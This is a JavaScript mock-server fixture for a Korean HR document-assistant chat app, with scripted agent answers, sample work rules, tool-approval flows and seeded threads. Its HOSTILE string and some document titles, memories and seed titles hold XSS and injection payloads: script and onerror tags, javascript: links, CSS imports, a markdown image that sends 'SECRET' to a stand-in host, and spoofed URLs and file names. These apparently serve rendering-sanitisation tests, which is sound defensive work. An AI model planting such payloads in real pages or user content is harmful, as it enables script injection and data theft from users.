// Data and scripted answers of the mock server.

const MODEL = { name: 'offline-extractive-2', kind: 'extractive', ko: '문서의 문장을 그대로 찾아 인용합니다. LLM이 아닙니다.', en: 'Finds and quotes sentences. Not an LLM.' }

export const AGENTS = [
  { id: 'assistant', ko: '문서를 찾고 도구를 쓰며 대화를 이어 갑니다.', en: 'Looks things up, uses tools, keeps the conversation.', model: MODEL,
    starters: { ko: ['육아휴직은 최대 얼마나 쓸 수 있나요?', '연차 15일 중 6.5일을 썼으면 며칠 남았나요?', '경조금 기준을 표로 정리해 주세요.'], en: ['How long is parental leave?', 'I used 6.5 of 15 days of leave. How many are left?', 'Put the condolence payments into a table.'] } },
  { id: 'contract', ko: '계약서를 조항별로 살피고 표준계약과 견줍니다.', en: 'Reads contracts clause by clause, beside a standard.', model: MODEL,
    starters: { ko: ['중도 해지하면 위약금과 통보 기한은?', '제5조를 표준계약과 비교해 주세요.', '대금 지급 조건이 우리에게 불리한가요?'], en: ['What are the notice period and the penalty?', 'Compare article 5 with the standard.', 'Are the payment terms against us?'] } },
  { id: 'react', ko: '계산, 날짜, 날씨, 검색 도구를 스스로 골라 씁니다.', en: 'Chooses among calculator, dates, weather and search.', model: MODEL,
    starters: { ko: ['3,450,000원의 12.5%는?', '다음 공휴일은 언제인가요?'], en: ['What is 12.5% of 3,450,000?', 'When is the next holiday?'] } },
  { id: 'docqa', ko: '올린 문서만 보고 답하고, 긴 대화를 간추려 둡니다.', en: 'Answers from your documents alone; sums up long talks.', model: MODEL,
    starters: { ko: ['이 문서를 요약해 주세요.', '출장비 한도는 얼마인가요?'], en: ['Sum up this document.', 'What is the travel limit?'] } },
]

const RULES = `취업규칙

제5장 휴직

제31조(휴직 사유) 회사는 사원이 다음 각 호의 어느 하나에 해당하는 경우 휴직을 명하거나 허가할 수 있다.

제32조(육아휴직)
① 회사는 만 8세 이하 또는 초등학교 2학년 이하의 자녀를 가진 사원이 신청하는 경우 육아휴직을 허용한다.
② 육아휴직은 자녀 1명당 1년 이내로 한다.
③ 육아휴직 급여는 고용보험법이 정하는 바에 따른다.
④ 회사는 육아휴직을 이유로 해고나 그 밖의 불리한 처우를 하지 아니한다.

제33조(복직) 휴직자는 휴직 사유가 소멸된 날부터 7일 이내에 복직원을 제출하여야 한다.
`.repeat(3)

export const DOCUMENT_TEXT = { d1: RULES, d2: '복리후생 안내\n\n3. 가족\n육아휴직 중에도 단체보험은 유지된다.\n본인 결혼 50만원, 자녀 결혼 30만원, 부모상 50만원을 지급한다.\n' }

const bytes = (text) => Buffer.byteLength(text)
const quoted = (number, document, title, quote, more = {}) => {
  const at = DOCUMENT_TEXT[document].indexOf(quote)
  const start = bytes(DOCUMENT_TEXT[document].slice(0, at))
  return { number, document, title, kind: 'general', article: null, clause: null, page: null, passage: `${document}-${number}`, version: 'a41f09c2', quote, start, end: start + bytes(quote), ...more }
}

const SOURCES = [
  quoted(1, 'd1', '취업규칙', '육아휴직은 자녀 1명당 1년 이내로 한다.', { article: '제32조', clause: '②', page: 14 }),
  quoted(2, 'd1', '취업규칙', '육아휴직 급여는 고용보험법이 정하는 바에 따른다.', { article: '제32조', clause: '③', page: 14 }),
  quoted(3, 'd2', '복리후생 안내', '육아휴직 중에도 단체보험은 유지된다.', { page: 3 }),
]

export const DOCUMENTS = [
  { id: 'd1', name: '취업규칙.hwpx', title: '취업규칙', kind: 'general', collection: '', status: 'ready', progress: 1, passages: 212, pages: 48, bytes: 184_320, version: 'a41f09c2', at: Date.now() - 86_400_000 * 3 },
  { id: 'd2', name: '복리후생 안내.pdf', title: '복리후생 안내', kind: 'general', collection: '', status: 'ready', progress: 1, passages: 64, pages: 31, bytes: 921_600, at: Date.now() - 86_400_000 },
  { id: 'd3', name: '용역계약서_2026.docx', title: '용역계약서', kind: 'contract', collection: '', status: 'ready', progress: 1, passages: 48, pages: 12, bytes: 61_440, at: Date.now() - 3_600_000 },
  { id: 'd4', name: '인사규정_구.hwp', kind: 'general', collection: '', status: 'failed', reason: 'encrypted', ko: '암호가 걸린 문서입니다. 암호를 푼 파일을 다시 올려 주세요.', en: 'The document is encrypted. Upload it again without the password.', bytes: 40_960, at: Date.now() - 7_200_000 },
  { id: 'd5', name: '출장 규정 <img src=x onerror=alert(1)>.md', kind: 'general', collection: '', status: 'paused', progress: 0.38, bytes: 10_240, at: Date.now() - 60_000 },
]

/** What agents were asked to remember. */
export const FACTS = [
  { id: '44566381258c', text: '내 사번은 20231234', at: Date.now() - 3_600_000 },
  { id: 'e46ba859fe45', text: 'my desk is on floor 7', at: Date.now() - 86_400_000 * 2 },
  { id: '0b1c7d20aa91', text: '회의실 비번은 4821\n주말에는 닫힘 <img src=x onerror="window.__hit=1">', at: Date.now() - 86_400_000 * 500 },
]

const call = (purpose, input, output, ms) => ({ name: MODEL.name, kind: MODEL.kind, purpose, finish: 'stop', input_tokens: input, output_tokens: output, cached_tokens: 0, cost_micros: 0, counted: 'estimated', ms })

export const HOSTILE = `<script>window.__hit='script'</script><img src=x onerror="window.__hit='img'"><svg onload="window.__hit='svg'"></svg><iframe srcdoc="<script>parent.__hit='frame'</script>"></iframe>

[one](javascript:window.__hit='js') [two](data:text/html,<script>1</script>) [three](vbscript:x) [four](/api/threads)

![x](https://canary.invalid/?d=SECRET) ![a][r] <img src=https://canary.invalid/raw> <style>@import 'https://canary.invalid/css'</style>

[r]: https://canary.invalid/ref

\`\`\`"><img src=x onerror=window.__hit='fence'>
code
\`\`\`

\\href{javascript:alert(1)}{x} $\\href{javascript:window.__hit='math'}{x}$ $$\\style{background:url(https://canary.invalid/math)}{x}$$ $\\includegraphics{https://canary.invalid/picture}$ \u202egnp.exe\u202c \u001b[31mred\u001b[0m [네이버](https://xn--9ny-example.invalid@evil.invalid/path)
`

const PARENTAL = [
  { node: 'router', next: ['rag'], events: [{ type: 'thinking', step: 'routing', content: '규정에 관한 질문이므로 문서를 찾습니다. (rag 0.71 · agent 0.29)' }], models: [call('route', 212, 18, 12)], update: { route: 'rag' } },
  { node: 'rag', next: ['memory'], events: [{ type: 'thinking', step: 'searching', content: '육아휴직 / 최대 / 기간 → 6개를 찾아 3개를 골랐습니다.' }], update: { context: SOURCES } },
  { node: 'memory', next: ['agent'], update: {} },
  { node: 'agent', next: [], events: [{ type: 'thinking', step: 'generating', content: '찾은 문장을 그대로 옮깁니다.' }, { type: 'sources', sources: SOURCES }], again: true,
    text: '**육아휴직은 자녀 1명당 1년 이내로** 쓸 수 있습니다.\n\n> 육아휴직은 자녀 1명당 1년 이내로 한다. [1]\n\n급여와 보험은 다음과 같습니다.\n\n| 항목 | 기준 | 근거 |\n|---|---|---|\n| 급여 | 고용보험법이 정하는 바에 따름 | 제32조 ③ [2] |\n| 단체보험 | 휴직 중에도 유지 | 복리후생 3쪽 [3] |\n\n- 대상: 만 8세 이하 또는 초등학교 2학년 이하의 자녀\n- 복직: 사유가 끝난 날부터 `7일` 안에 복직원 제출',
    sources: SOURCES, models: [call('answer', 1120, 92, 420)] },
]

const CALC = [
  { node: 'router', next: ['memory'], events: [{ type: 'thinking', step: 'routing', content: '계산이 필요하므로 도구를 쓰는 쪽으로 갑니다.' }], models: [call('route', 190, 16, 9)], update: { route: 'agent' } },
  { node: 'memory', next: ['agent'], update: {} },
  { node: 'agent', next: ['tools'], events: [{ type: 'thinking', step: 'tool_selected', content: 'calculator' }], models: [call('answer', 260, 20, 14)], update: {} },
  { node: 'tools', next: ['agent'], events: [{ type: 'tool_call', call: 'c1', name: 'calculator', arguments: { expression: '15 - 6.5' } }, { type: 'tool_result', call: 'c1', name: 'calculator', text: '8.5', failed: false, ms: 1 }], update: {} },
  { node: 'agent', next: [], text: '남은 연차는 **8.5일**입니다.\n\n```text\n15 - 6.5 = 8.5\n```', models: [call('answer', 300, 24, 16)] },
]

const APPROVE = [
  ...CALC.slice(0, 3),
  { node: 'tools', next: ['agent'], events: [],
    ask: { type: 'approve_tool', call: 'c9', name: 'python_repl', arguments: { code: 'import math\nprint(math.comb(45, 6))' }, why: 'policy', ko: '파이썬 코드를 실행하려고 합니다.', en: 'Wants to run Python code.' },
    approved: [{ type: 'tool_call', call: 'c9', name: 'python_repl', arguments: { code: 'import math\nprint(math.comb(45, 6))' } }, { type: 'tool_result', call: 'c9', name: 'python_repl', text: '8145060', failed: false, ms: 41 }],
    denied: [{ type: 'tool_call', call: 'c9', name: 'python_repl', arguments: { code: 'import math\nprint(math.comb(45, 6))' } }, { type: 'tool_result', call: 'c9', name: 'python_repl', text: '사람이 거부했습니다', failed: true, ms: 0 }], update: {} },
  { node: 'agent', next: [], text: '로또 한 장이 1등일 확률은 **8,145,060분의 1**입니다.', models: [call('answer', 300, 24, 16)] },
]

const UNKNOWN = [
  ...CALC.slice(0, 3),
  { node: 'tools', next: ['agent'], events: [], kind: 'effect_unknown',
    ask: { type: 'tool_unknown', call: 'tool-0', name: 'send_mail', arguments: { to: 'kim@example.com' }, ko: '호출이 끊겼습니다.', en: 'The call was cut off.' },
    approved: [{ type: 'tool_call', call: 'c8', name: 'send_mail', arguments: { to: 'kim@example.com' } }, { type: 'tool_result', call: 'c8', name: 'send_mail', text: '다시 보냈음', failed: false, ms: 41 }],
    denied: [{ type: 'tool_call', call: 'c8', name: 'send_mail', arguments: { to: 'kim@example.com' } }, { type: 'tool_result', call: 'c8', name: 'send_mail', text: '사람이 말한 결과', failed: false, ms: 0 }], update: {} },
  { node: 'agent', next: [], text: '메일을 보냈습니다.', models: [call('answer', 300, 24, 16)] },
]

const LONG = '긴 답을 천천히 씁니다. ' + Array.from({ length: 120 }, (_, at) => `문장 ${at + 1}은 여기에 있습니다.`).join(' ')

const RENDERED = `넓이는 $\\pi r^2$이고, 가격은 $5에서 $10 사이입니다.

$$
x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
$$

\`\`\`rust
/// 제곱을 돌려줍니다.
fn square(number: u64) -> u64 {
    number * number // "그대로"
}
\`\`\`

\`\`\`nolanguage
<b>plain</b>
\`\`\`

- [x] 끝난 일
- [ ] 남은 일

$\\undefined{$ 는 수식이 아닙니다.`

export function scriptFor(agent, message) {
  const copy = (script) => script.map((act) => ({ ...act }))
  if (/HOSTILE/.test(message)) return copy([{ node: 'agent', next: [], events: [{ type: 'thinking', step: 'planning', content: HOSTILE }, { type: 'tool_call', call: 'h', name: '<b>tool</b>', arguments: { html: HOSTILE } }, { type: 'tool_result', call: 'h', name: '<b>tool</b>', text: HOSTILE, failed: false, ms: 1 }, { type: 'sources', sources: [{ ...SOURCES[0], title: '<img src=x onerror="window.__hit=1">', quote: HOSTILE }] }], text: `${HOSTILE} [1]`, sources: [{ ...SOURCES[0], title: '<img src=x onerror="window.__hit=1">', quote: HOSTILE }], models: [call('answer', 1, 1, 1)] }])
  if (/RENDERED/.test(message)) return copy([{ node: 'agent', next: [], text: RENDERED, models: [call('answer', 1, 1, 1)] }])
  if (/HUGE/.test(message)) return copy([{ node: 'agent', next: [], text: `${'>'.repeat(50_000)}\n\n\`\`\`\n${'line\n'.repeat(100_000)}\`\`\`\n`.replace(/ /g, ''), models: [call('answer', 1, 1, 1)] }])
  if (/TWICE/.test(message)) return copy([{ node: 'agent', next: ['check'], text: '첫 번째 말입니다.' }, { node: 'check', next: [], text: LONG }])
  if (/메일|mail/.test(message)) return copy(UNKNOWN)
  if (/승인|approve/.test(message)) return copy(APPROVE)
  if (/실패|fail/.test(message)) return copy([CALC[0], CALC[1], { node: 'agent', fail: { code: 'model_failed', message: 'openai: 429 Too Many Requests (3번 시도)' } }])
  if (/길게|long/.test(message)) return copy([CALC[0], CALC[1], { node: 'agent', next: [], text: LONG, models: [call('answer', 400, 900, 900)] }])
  if (/연차|days|%/.test(message)) return copy(CALC)
  return copy(PARENTAL)
}

export const SEED = [
  { agent: 'assistant', title: '육아휴직 기간', ask: '육아휴직은 최대 얼마나 쓸 수 있나요?', ago: 3_600_000 },
  { agent: 'assistant', title: '연차 계산', ask: '연차 15일 중 6.5일을 썼으면 며칠 남았나요?', ago: 5_400_000 },
  { agent: 'contract', title: '용역계약 해지 조건', ask: '중도 해지하면 위약금과 통보 기한은?', ago: 90_000_000 },
  { agent: 'docqa', title: '출장비 한도', ask: '출장비 한도는 얼마인가요?', ago: 95_000_000 },
  { agent: 'react', title: '<script>alert(1)</script> 제목', ask: '3,450,000원의 12.5%는?', ago: 400_000_000 },
]
